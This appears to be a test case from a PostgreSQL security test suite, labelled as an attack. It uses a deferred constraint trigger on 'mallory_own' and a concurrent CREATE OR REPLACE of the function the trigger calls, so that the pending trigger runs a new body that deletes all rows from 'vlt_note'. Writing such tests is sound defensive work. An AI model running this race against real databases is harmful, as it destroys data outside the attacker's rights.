-- Gives an own function another body while deferred triggers sleep that call it at the end.
-- wants: write
-- attack:
CREATE FUNCTION cut() RETURNS int LANGUAGE plpgsql AS $$BEGIN RETURN 1; END$$;
CREATE FUNCTION sleepy() RETURNS trigger LANGUAGE plpgsql AS
  $$BEGIN PERFORM pg_sleep(1); PERFORM cut(); RETURN NEW; END$$;
CREATE CONSTRAINT TRIGGER t AFTER UPDATE ON mallory_own DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION sleepy();
-- session: writer
-- without waiting
UPDATE mallory_own SET v = 'x' WHERE id = 1;
-- session: first
SELECT pg_sleep(0.3);
CREATE OR REPLACE FUNCTION cut() RETURNS int LANGUAGE plpgsql AS
  $$BEGIN DELETE FROM vlt_note; RETURN 1; END$$;
